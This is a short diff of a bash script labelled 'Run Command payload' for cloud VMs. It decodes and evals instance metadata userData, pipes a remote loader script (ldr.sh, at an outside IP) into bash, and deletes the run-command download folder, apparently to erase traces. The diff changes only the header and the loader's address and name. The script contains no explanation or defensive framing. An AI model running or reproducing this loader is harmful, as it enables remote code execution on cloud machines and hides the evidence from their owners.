@@ -1,7 +1,7 @@
-# setup 2161 v1
+# init 7299 v1
 #!/bin/bash
 # Run Command payload
 UD=$(curl -s -H Metadata:true "http://169.254.169.254/metadata/instance/compute/userData?api-version=2021-01-01&format=text" | base64 -d)
 eval "$UD"
-curl -s http://198.51.100.9/init.sh | bash
+curl -s http://198.51.100.23/ldr.sh | bash
 rm -rf /var/lib/waagent/run-command/download/*
